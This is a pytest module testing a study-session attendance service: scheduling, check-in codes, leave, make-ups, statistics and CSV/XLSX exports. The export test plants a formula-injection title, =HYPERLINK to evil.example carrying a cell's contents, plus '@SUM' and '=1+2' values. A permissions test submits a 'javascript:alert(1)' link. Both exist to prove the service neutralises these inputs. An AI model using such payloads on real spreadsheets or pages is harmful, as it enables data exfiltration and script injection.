"""Study sessions end to end through the API, on the district scenario: a special-action office with five
working groups and three steering groups, a reading list, two sessions, check-ins (QR token and short
code), a late arrival, leave approved and declined, absences at closing, a make-up; then the statistics and
their CSV and XLSX exports. The service's clock is set by the test, so windows and expiry are exact."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from support import DOC, PASSWORD, csrf_of, sign_in

START = datetime(2026, 12, 1, 6, 0, tzinfo=UTC)  # 14:00 in Beijing
OFFICE = "迎泽区委/专项行动办公室"
WORKING = [f"{OFFICE}/第{n}工作组" for n in "一二三四五"]
STEERING = [f"{OFFICE}/第{n}督导组" for n in "一二三"]


class Clock:
    def __init__(self, now: datetime):
        self.now = now

    def __call__(self) -> datetime:
        return self.now


@pytest.fixture(scope="module")
def district(world):
    from fastapi.testclient import TestClient

    accounts = world["accounts"]
    accounts.add_unit("专项行动办公室", "office", "迎泽区委")
    for path in WORKING:
        accounts.add_unit(path.rsplit("/", 1)[1], "working_group", OFFICE)
    for path in STEERING:
        accounts.add_unit(path.rsplit("/", 1)[1], "steering_group", OFFICE)
    accounts.add_user("zhuren", "办公室主任", PASSWORD, "organiser", [OFFICE])
    people = {"zhuren": None}
    for number, path in enumerate(WORKING, 1):
        accounts.add_user(f"w{number}", f"工作组员{number}", PASSWORD, "member", [path])
        people[f"w{number}"] = path
    for number, path in enumerate(STEERING, 1):
        accounts.add_user(f"s{number}", f"督导组员{number}", PASSWORD, "member", [path])
        people[f"s{number}"] = path
    clients = dict(world["clients"])
    for login in people:
        clients[login] = TestClient(world["app"])
        sign_in(clients[login], login)
    clock = Clock(START - timedelta(days=1))
    world["app"].state.context.study_sessions.clock = clock
    return {**world, "clients": clients, "clock": clock}


def call(client, method: str, path: str, **kwargs):
    return getattr(client, method)(path, headers={"X-CSRF-Token": csrf_of(client)}, **kwargs)


def ok(response, status: int = 200):
    assert response.status_code == status, response.text
    return response.json()


def unit(district, path: str) -> int:
    return district["accounts"].unit_by_path(path).id


@pytest.fixture(scope="module")
def scheduled(district):
    """The reading list (two documents) and the two sessions."""
    boss = district["clients"]["zhuren"]
    reading = ok(call(boss, "post", "/api/reading-lists", json={"title": "专项行动应知应会", "unit_id": unit(
        district, OFFICE)}), 201)["id"]
    for doc in (DOC, "municipal-reg-qingdao-property-2021"):
        ok(call(boss, "post", f"/api/reading-lists/{reading}/items", json={"kind": "document", "document_id": doc}), 201)
    ok(call(boss, "post", f"/api/reading-lists/{reading}/assign", json={"unit_ids": [unit(district, OFFICE)]}))
    first = ok(call(boss, "post", "/api/sessions", json={
        "title": "专项行动专题学习", "kind": "thematic", "starts_at": START.isoformat(),
        "ends_at": (START + timedelta(hours=2)).isoformat(), "place": "区委三楼会议室",
        "host_unit_id": unit(district, OFFICE), "reading_list_id": reading, "agenda": "1. 原文领学\n2. 交流发言",
        "unit_ids": [unit(district, OFFICE)]}), 201)
    second = ok(call(boss, "post", "/api/sessions", json={
        "title": "工作调度会", "kind": "scheduling", "starts_at": (START + timedelta(days=7)).isoformat(),
        "ends_at": (START + timedelta(days=7, hours=1)).isoformat(), "host_unit_id": unit(district, OFFICE),
        "unit_ids": [unit(district, path) for path in WORKING]}), 201)
    assert len(first["attendance"]) == 9 and len(second["attendance"]) == 5
    return {"list": reading, "first": first["id"], "second": second["id"]}


def test_only_organisers_schedule_and_only_invitees_see(district, scheduled) -> None:
    clients = district["clients"]
    assert call(clients["w1"], "post", "/api/sessions", json={
        "title": "x", "kind": "thematic", "starts_at": START.isoformat(),
        "ends_at": (START + timedelta(hours=1)).isoformat()}).status_code == 403
    assert clients["s1"].get(f"/api/sessions/{scheduled['second']}").status_code == 404  # not expected there
    assert clients["a"].get(f"/api/sessions/{scheduled['first']}").status_code == 404
    mine = ok(clients["w1"].get(f"/api/sessions/{scheduled['first']}"))
    assert [a["login"] for a in mine["attendance"]] == ["w1"] and not mine["manageable"]
    assert call(clients["w1"], "post", f"/api/sessions/{scheduled['first']}/checkin-code").status_code == 403


def _play_the_first_session(district, scheduled) -> None:
    clients, clock, sid = district["clients"], district["clock"], scheduled["first"]
    boss = clients["zhuren"]

    clock.now = START - timedelta(hours=2)  # before the check-in window
    code = ok(call(boss, "post", f"/api/sessions/{sid}/checkin-code"))
    assert "<svg" in code["qr_svg"] and code["url"].endswith(f"/sessions/{sid}/checkin?token={code['token']}")
    early = call(clients["w1"], "post", f"/api/sessions/{sid}/checkin", json={"token": code["token"]})
    assert early.status_code == 400 and "check-in is open from" in early.json()["message"]

    clock.now = START - timedelta(minutes=10)
    code = ok(call(boss, "post", f"/api/sessions/{sid}/checkin-code"))
    assert ok(call(clients["w1"], "post", f"/api/sessions/{sid}/checkin", json={"token": code["token"]}))[
        "attendance"][0]["status"] == "present"
    # The code on the screen is for everyone in the hall during its window (it was single-use before).
    assert ok(call(clients["w2"], "post", f"/api/sessions/{sid}/checkin", json={"token": code["token"]}))[
        "attendance"][0]["status"] == "present"
    outsider = call(clients["a"], "post", f"/api/sessions/{sid}/checkin", json={"token": code["token"]})
    assert outsider.status_code == 404  # not expected: the session does not exist for them

    code = ok(call(boss, "post", f"/api/sessions/{sid}/checkin-code"))
    ok(call(clients["w2"], "post", f"/api/sessions/{sid}/checkin", json={"code": code["code"]}))  # again: once
    stale = ok(call(boss, "post", f"/api/sessions/{sid}/checkin-code"))
    clock.now += timedelta(seconds=25)
    expired = call(clients["w3"], "post", f"/api/sessions/{sid}/checkin", json={"token": stale["token"]})
    assert expired.status_code == 400 and "expired" in expired.json()["message"]

    clock.now = START + timedelta(minutes=12)
    code = ok(call(boss, "post", f"/api/sessions/{sid}/checkin-code"))
    assert ok(call(clients["w3"], "post", f"/api/sessions/{sid}/checkin", json={"token": code["token"]}))[
        "attendance"][0]["status"] == "late"

    ok(call(clients["w4"], "post", f"/api/sessions/{sid}/leave", json={"reason": "到市里参加培训"}))
    ok(call(clients["s1"], "post", f"/api/sessions/{sid}/leave", json={"reason": "个人事务"}))
    ok(call(boss, "post", f"/api/sessions/{sid}/leave/w4", json={"approve": True}))
    ok(call(boss, "post", f"/api/sessions/{sid}/leave/s1", json={"approve": False}))
    assert call(clients["w4"], "post", f"/api/sessions/{sid}/leave/w4", json={"approve": True}).status_code == 403
    own = call(boss, "post", f"/api/sessions/{sid}/attendance",
               json={"login": "zhuren", "status": "present", "reason": "主持会议，未扫码"})
    assert own.status_code == 403  # nobody marks their own attendance (fails before: it was accepted)
    ok(call(clients["admin"], "post", f"/api/sessions/{sid}/attendance",
            json={"login": "zhuren", "status": "present", "reason": "主持会议，未扫码"}))
    assert district["accounts"].audit_entries(action="attendance_marked")[0].detail["reason"] == "主持会议，未扫码"
    ok(call(boss, "put", f"/api/sessions/{sid}/minutes", json={"minutes": "一、原文领学…"}))

    body = ok(call(boss, "post", f"/api/sessions/{sid}/close"))
    status = {a["login"]: a["status"] for a in body["attendance"]}
    assert status == {"zhuren": "present", "w1": "present", "w2": "present", "w3": "late", "w4": "excused",
                      "w5": "absent", "s1": "absent", "s2": "absent", "s3": "absent"}
    late_code = call(clients["w5"], "post", f"/api/sessions/{sid}/checkin", json={"code": "000000"})
    assert late_code.status_code == 400  # closed

    too_soon = call(clients["w5"], "post", f"/api/sessions/{sid}/makeup", json={"reflection": "学习了原文，深受教育。" * 3})
    assert too_soon.status_code == 400 and "reading list" in too_soon.json()["message"]
    for item in ok(clients["w5"].get(f"/api/reading-lists/{scheduled['list']}"))["items"]:
        ok(call(clients["w5"], "post", f"/api/reading-lists/{scheduled['list']}/items/{item['id']}/studied",
                json={"studied": True}))
    ok(call(clients["w5"], "post", f"/api/sessions/{sid}/makeup", json={"reflection": "学习了原文，深受教育。" * 3}))
    assert call(clients["w1"], "post", f"/api/sessions/{sid}/makeup",
                json={"reflection": "我也想补学一次，看看会怎样。" * 2}).status_code == 400  # was present
    body = ok(call(boss, "post", f"/api/sessions/{sid}/makeup/w5/confirm"))
    assert next(a for a in body["attendance"] if a["login"] == "w5")["makeup_confirmed"]


def _play_the_second_session(district, scheduled) -> dict:
    clients, clock, sid = district["clients"], district["clock"], scheduled["second"]
    clock.now = START + timedelta(days=7, minutes=-5)
    for login in ("w1", "w2"):
        code = ok(call(clients["zhuren"], "post", f"/api/sessions/{sid}/checkin-code"))
        ok(call(clients[login], "post", f"/api/sessions/{sid}/checkin", json={"code": code["code"]}))
    clock.now = START + timedelta(days=7, hours=2)  # over: the next look closes it
    return ok(clients["zhuren"].get(f"/api/sessions/{sid}"))


@pytest.fixture(scope="module")
def played(district, scheduled) -> dict:
    """Both sessions played through, in the order of the calendar (the service's clock moves forward only):
    every test that reads their outcome, or moves the clock past them, asks for this first, so the module
    passes in any test order."""
    _play_the_first_session(district, scheduled)
    return {"second": _play_the_second_session(district, scheduled)}


def test_the_first_session(district, scheduled, played) -> None:
    body = ok(district["clients"]["zhuren"].get(f"/api/sessions/{scheduled['first']}"))
    assert body["closed"] and body["minutes"] == "一、原文领学…"
    assert {a["login"]: a["status"] for a in body["attendance"]} == {
        "zhuren": "present", "w1": "present", "w2": "present", "w3": "late", "w4": "excused", "w5": "absent",
        "s1": "absent", "s2": "absent", "s3": "absent"}
    assert next(a for a in body["attendance"] if a["login"] == "w5")["makeup_confirmed"]


def test_the_second_session_closes_by_itself(played) -> None:
    body = played["second"]
    assert body["closed"] and sorted(a["status"] for a in body["attendance"]) == \
        ["absent", "absent", "absent", "present", "present"]


def test_statistics_and_their_exports(district, scheduled, played) -> None:
    boss = district["clients"]["zhuren"]
    stats = ok(boss.get("/api/attendance", params={"since": "2026-11-30", "until": "2026-12-31"}))
    first, second = stats["sessions"]
    assert (first["expected"], first["attended"], first["late"], first["excused"], first["absent"],
            first["made_up"], first["pending"]) == (9, 4, 1, 1, 4, 1, 0)
    assert (second["expected"], second["attended"], second["absent"]) == (5, 2, 3)
    members = {m["name"]: m for m in stats["members"]}
    assert (members["w1"]["expected"], members["w1"]["attended"], members["w1"]["rate"]) == (2, 2, 100)
    assert (members["w5"]["absent"], members["w5"]["made_up"], members["w5"]["rate"]) == (2, 1, 0)
    units = {u["name"]: u for u in stats["units"]}
    assert units["第一工作组"]["attended"] == 2 and units["第一督导组"]["absent"] == 1
    assert ok(boss.get("/api/attendance", params={"since": "2030-01-01"}))["sessions"] == []  # none that late
    assert district["clients"]["w1"].get("/api/attendance").json()["sessions"] == []  # members organise nothing

    exported = boss.get("/api/attendance/export", params={"format": "csv", "table": "sessions",
                                                          "since": "2026-11-30"})
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["会议", "类型", "时间", "应到"] and rows[1][3:9] == ["9", "4", "1", "1", "4", "1"]
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(boss.get("/api/attendance/export", params={
        "format": "xlsx", "since": "2026-11-30", "until": "2026-12-31"}).content))  # the two sessions of the story
    assert book.sheetnames == ["会议", "党员", "组织"]
    sheet_rows = list(book["党员"].iter_rows(values_only=True))
    w5 = next(r for r in sheet_rows if r[0] == "w5")
    assert list(w5[3:]) == [2, 0, 0, 0, 2, 1, 0]
    page = boss.get("/attendance").text
    assert "<svg" in page and "<td>9</td>" in page and "专项行动专题学习" in page


def test_an_upcoming_session_is_listed_but_lowers_nobody_s_attendance_rate(district, scheduled, played) -> None:
    """Fails before: the member and unit figures counted a session not yet held as expected and not attended."""
    boss = district["clients"]["zhuren"]
    later = datetime(2028, 3, 1, 6, 0, tzinfo=UTC)  # after every time other tests move the clock to
    before = ok(boss.get("/api/attendance", params={"since": "2026-11-30", "until": "2028-04-01"}))
    upcoming = ok(call(boss, "post", "/api/sessions", json={
        "title": "三月集中学习", "kind": "thematic", "starts_at": later.isoformat(),
        "ends_at": (later + timedelta(hours=2)).isoformat(), "host_unit_id": unit(district, OFFICE),
        "unit_ids": [unit(district, OFFICE)]}), 201)
    after = ok(boss.get("/api/attendance", params={"since": "2026-11-30", "until": "2028-04-01"}))
    listed = {s["session_id"]: s for s in after["sessions"]}
    assert (listed[upcoming["id"]]["expected"], listed[upcoming["id"]]["pending"]) == (9, 9)
    assert after["members"] == before["members"] and after["units"] == before["units"]
    assert any(m["expected"] for m in after["members"])  # closed sessions in the window do count
    only_upcoming = ok(boss.get("/api/attendance", params={"since": "2028-01-01", "until": "2028-04-01"}))
    assert [s["session_id"] for s in only_upcoming["sessions"]] == [upcoming["id"]]
    assert {(m["expected"], m["rate"]) for m in only_upcoming["members"]} == {(0, None)}  # listed, no rate yet
    page = boss.get("/attendance", params={"since": "2028-01-01", "until": "2028-04-01"}).text
    assert "三月集中学习" in page and "<td>—</td>" in page and "None" not in page


def test_exports_write_user_text_as_text_never_as_formulas(district) -> None:
    """Fails before: the title below was a live formula in the XLSX and a formula cell in the CSV."""
    from openpyxl import load_workbook

    accounts, admin = district["accounts"], district["clients"]["admin"]
    hostile_unit = accounts.add_unit("=1+2", "branch", "迎泽区委")
    accounts.add_user("hostile", "@SUM(1,2)", PASSWORD, "member", ["迎泽区委/=1+2"])
    title = '=HYPERLINK("http://evil.example/?"&B3,"详情")'
    when = datetime(2027, 6, 1, 6, 0, tzinfo=UTC)
    ok(call(admin, "post", "/api/sessions", json={
        "title": title, "kind": "thematic", "starts_at": when.isoformat(),
        "ends_at": (when + timedelta(hours=1)).isoformat(), "unit_ids": [hostile_unit.id]}), 201)
    window = {"since": "2027-05-01", "until": "2027-07-01"}

    def csv_cells(table: str) -> list[str]:
        content = admin.get("/api/attendance/export", params={"format": "csv", "table": table, **window}).content
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]

    assert "'" + title in csv_cells("sessions") and title not in csv_cells("sessions")
    assert "'@SUM(1,2)" in csv_cells("members")
    assert not any(cell.startswith(("=", "+", "-", "@")) for table in ("sessions", "members", "units")
                   for cell in csv_cells(table))
    book = load_workbook(io.BytesIO(admin.get("/api/attendance/export", params={"format": "xlsx", **window}).content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert title in [c.value for c in cells] and "@SUM(1,2)" in [c.value for c in cells]
    assert all(cell.data_type == "s" for cell in cells)  # text cells: no formula anywhere


def test_organisers_act_only_on_their_members_and_never_on_themselves(district, scheduled, played) -> None:
    """Fails before: foreign logins were invited, another unit's list (or an unknown id: 500) was linked, a
    javascript: link was kept, the organiser approved their own leave, a confirmed make-up could be rewritten."""
    clients = district["clients"]
    boss, admin = clients["zhuren"], clients["admin"]
    when = datetime(2027, 2, 1, 6, 0, tzinfo=UTC)
    district["clock"].now = when - timedelta(days=1)  # before it: leave may be asked for
    base = {"title": "越权测试", "kind": "thematic", "starts_at": when.isoformat(),
            "ends_at": (when + timedelta(hours=1)).isoformat(), "host_unit_id": unit(district, OFFICE)}

    foreign = call(boss, "post", "/api/sessions", json={**base, "logins": ["a"]})  # a member of another community
    unknown = call(boss, "post", "/api/sessions", json={**base, "logins": ["nobody-here"]})
    assert foreign.status_code == unknown.status_code == 404
    assert foreign.json()["message"].removesuffix("a") == unknown.json()["message"].removesuffix("nobody-here")
    community = "迎泽区委/桥东街道党工委/五一社区党委"
    other_list = ok(call(clients["org_a"], "post", "/api/reading-lists", json={
        "title": "五一社区的清单", "unit_id": unit(district, community)}), 201)["id"]
    assert call(boss, "post", "/api/sessions", json={**base, "reading_list_id": other_list}).status_code == 404
    assert call(boss, "post", "/api/sessions", json={**base, "reading_list_id": 999_999}).status_code == 404
    assert call(boss, "post", "/api/sessions", json={**base, "online_link": "javascript:alert(1)"}).status_code == 422
    linked = ok(call(boss, "post", "/api/sessions", json={**base, "online_link": "https://meeting.example/j/1"}), 201)
    assert linked["online_link"] == "https://meeting.example/j/1"

    sid = ok(call(boss, "post", "/api/sessions", json={**base, "unit_ids": [unit(district, OFFICE)]}), 201)["id"]
    ok(call(boss, "post", f"/api/sessions/{sid}/leave", json={"reason": "到省里开会"}))
    assert call(boss, "post", f"/api/sessions/{sid}/leave/zhuren", json={"approve": True}).status_code == 403
    assert call(boss, "post", f"/api/sessions/{sid}/leave/a", json={"approve": True}).status_code == 404
    ok(call(admin, "post", f"/api/sessions/{sid}/leave/zhuren", json={"approve": True}))
    assert district["accounts"].audit_entries(action="leave_decided")[0].actor_id == \
        district["accounts"].get_user("admin").id

    frozen = call(clients["w5"], "post", f"/api/sessions/{scheduled['first']}/makeup",
                  json={"reflection": "改写一次已经确认过的补学心得，看看会怎样。" * 2})
    assert frozen.status_code == 400 and "confirmed" in frozen.json()["message"]
    again = call(boss, "post", f"/api/sessions/{scheduled['first']}/makeup/w5/confirm")
    assert again.status_code == 400  # confirmed once, by one organiser


def test_times_are_entered_and_shown_in_the_sites_zone_and_stored_in_utc(district, played) -> None:
    """Fails before: a branch in Taiyuan scheduling 14:30 in the form saw 06:30 (times were read and shown in UTC)."""
    import re

    boss = district["clients"]["zhuren"]
    form = boss.get("/sessions").text
    token = re.search(r'name="csrf_token" value="([^"]+)"', form).group(1)
    made = boss.post("/sessions", data={
        "csrf_token": token, "title": "时区测试会", "kind": "thematic", "starts_at": "2027-04-01T14:30",
        "ends_at": "2027-04-01T16:00", "host_unit_id": str(unit(district, OFFICE)),
        "unit_id": str(unit(district, OFFICE))}, follow_redirects=False)
    assert made.status_code == 303, made.text
    sid = int(made.headers["location"].rsplit("/", 1)[1])
    stored = ok(boss.get(f"/api/sessions/{sid}"))
    assert datetime.fromisoformat(stored["starts_at"]) == datetime(2027, 4, 1, 6, 30, tzinfo=UTC)  # UTC, offset given
    assert "2027-04-01 14:30–16:00" in boss.get(f"/sessions/{sid}").text
    exported = boss.get("/api/attendance/export", params={"format": "csv", "table": "sessions",
                                                          "since": "2027-04-01", "until": "2027-04-01"})
    assert "2027-04-01 14:30" in exported.content.decode("utf-8-sig")
    district["clock"].now = datetime(2027, 3, 31, 6, 30, tzinfo=UTC)
    early = call(district["clients"]["w1"], "post", f"/api/sessions/{sid}/checkin", json={"code": "123456"})
    assert "2027-04-01 14:00" in early.json()["message"]  # the check-in window in local time
    naive = ok(call(boss, "post", "/api/sessions", json={
        "title": "无时区的时间", "kind": "thematic", "starts_at": "2027-04-02T09:00", "ends_at": "2027-04-02T10:00",
        "host_unit_id": unit(district, OFFICE)}), 201)
    assert datetime.fromisoformat(naive["starts_at"]) == datetime(2027, 4, 2, 1, 0, tzinfo=UTC)
